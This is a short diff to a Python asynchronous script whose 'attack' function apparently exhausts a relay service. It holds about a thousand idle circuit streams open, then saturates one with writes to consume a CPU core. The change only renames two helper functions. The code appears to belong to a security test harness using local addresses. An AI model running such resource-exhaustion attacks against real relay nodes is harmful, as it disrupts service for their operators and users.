@@ -15,7 +15,7 @@ CHUNK = bytes(1 << 15)
 async def attack(target: Target, idle: int = 1000, seconds_of_load: float = 1.0) -> None:
     """The idle ones stay until the end; one of them is fast for so long, and no longer: it takes a core from others."""
     async with Stranger(host="127.0.9.1") as far, Stranger(host="127.0.9.2") as near:
-        accept_circuits(far, _read_all)
+        accept_circuits(far, read_all)
         await reserve(await far.dial(target.bootstrap.tcp_address))
         connection = await near.dial(target.bootstrap.tcp_address)
         held = []
@@ -25,11 +25,11 @@ async def attack(target: Target, idle: int = 1000, seconds_of_load: float = 1.0)
                 await stream.write(b"x")
                 held.append(stream)
         if held:
-            await _load(held[0], seconds_of_load)
+            await load(held[0], seconds_of_load)
         await connection.wait_closed()
 
 
-async def _load(circuit: MuxedStream, seconds: float) -> None:
+async def load(circuit: MuxedStream, seconds: float) -> None:
     loop = asyncio.get_running_loop()
     ends_s = loop.time() + seconds
     try:
@@ -40,6 +40,6 @@ async def _load(circuit: MuxedStream, seconds: float) -> None:
         pass  # cut off
 
 
-async def _read_all(circuit: MuxedStream) -> None:
+async def read_all(circuit: MuxedStream) -> None:
     while await circuit.read():
         pass
